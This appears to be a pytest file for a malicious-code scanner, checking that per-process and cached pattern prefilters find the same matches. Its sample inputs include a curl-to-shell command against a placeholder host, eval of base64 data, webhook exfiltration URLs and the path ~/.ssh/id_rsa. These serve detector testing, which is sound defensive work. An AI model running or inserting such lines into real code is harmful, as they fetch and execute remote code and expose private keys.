"""Patterns that are compiled anew in every process say the same as those that are kept."""

import pytest

from pratique.code import atoms, prefilter

SOURCES = (
    b"",
    b"import os\nos.system('curl https://a.example/x | sh')\n",
    b"eval(base64.b64decode(b'" + b"QUFB" * 80 + b"'))\nxeval(1)\n",
    "u = 'https://discord.com/api/webhooks/12345/é' # webhook.site\n".encode() * 3,
    b"a = '" + b"\\x41" * 40 + b"'\n~/.ssh/id_rsa my-webhook.site\n",
)


@pytest.mark.parametrize("group", ["python", "text", "constant", "javascript"])
def test_parts_find_what_the_whole_finds(group, monkeypatch):
    table = atoms.table(group)
    monkeypatch.setenv("PRATIQUE_CACHE", "off")
    parts = prefilter.Prefilter(table)
    monkeypatch.delenv("PRATIQUE_CACHE")
    whole = prefilter.Prefilter(table)
    found = 0
    for source in SOURCES:
        one, other = parts.scan(source), whole.scan(source)
        assert list(one.offsets()) == list(other.offsets())
        assert one.shapes == other.shapes
        found += len(one)
    assert found
    assert len(parts._parts) == 3
    assert len(whole._parts) == 1
